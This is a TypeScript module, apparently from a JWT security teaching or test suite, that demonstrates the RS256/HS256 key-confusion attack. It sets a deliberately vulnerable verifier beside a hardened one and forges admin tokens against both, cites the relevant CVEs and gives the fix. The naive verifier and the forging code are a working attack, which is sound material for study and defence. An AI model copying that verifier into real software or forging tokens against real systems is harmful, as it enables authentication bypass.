import { createHmac } from "node:crypto";
import { decodeJwt, decodeProtectedHeader } from "jose";
import jwt from "jsonwebtoken";
import jws, { type Algorithm } from "jws";
import { type Attack, shoot } from "./attack";
import { rsaPair, signingInput } from "./throw-away-keys";

/** The published key of RS256, taken for the secret of HS256. */
export const keyConfusion: Attack = {
  title: "The public key as a secret",
  move: "The attacker signs with HS256, and takes the text of the published RSA key as the secret.",
  precondition:
    "One function for both kinds of key, and the token chooses the algorithm.",
  mistake:
    "jws takes the PEM as a public key for RS256 and as plain bytes for HS256. The same confusion was in jsonwebtoken before 4.2.2, and, with both families allowed, up to and including 8.5.1.",
  remedy:
    "One key, one algorithm. jsonwebtoken 9 and jose also refuse a public key for an HMAC.",
  sources: [
    { id: "rfc8725", at: "§ 2.1, § 3.1" },
    { id: "cve-2015-9235" },
    { id: "cve-2022-23541" },
  ],

  async fire() {
    const { publicPem, privateKey } = await rsaPair();
    function vulnerableVerify(token: string) {
      // #region naive
      const { alg } = decodeProtectedHeader(token);
      if (alg === "none") throw new Error("unsigned");
      const valid = jws.verify(token, alg as Algorithm, publicPem);
      if (!valid) throw new Error("invalid signature");
      return decodeJwt(token);
      // #endregion naive
    }
    function hardenedVerify(token: string) {
      // #region hardened
      return jwt.verify(token, publicPem, { algorithms: ["RS256"] });
      // #endregion hardened
    }
    const doors = { naive: vulnerableVerify, hardened: hardenedVerify };
    const honest = jwt.sign({ sub: "alice" }, privateKey, {
      algorithm: "RS256",
    });
    const claims = { sub: "alice", role: "admin" };
    const input = signingInput({ alg: "HS256", typ: "JWT" }, claims);
    const mac = createHmac("sha256", publicPem).update(input);
    const forged = `${input}.${mac.digest("base64url")}`;
    const guessed = `${input}.c2lnbmVk`;
    const unsigned = `${signingInput({ alg: "none" }, claims)}.`;
    return [
      await shoot("owner", "a token of the issuer, RS256", honest, doors),
      await shoot("attacker", "HS256 with the public key", forged, doors),
      await shoot("attacker", "HS256 with a made-up secret", guessed, doors),
      await shoot("attacker", "alg: none, no signature", unsigned, doors),
    ];
  },
};
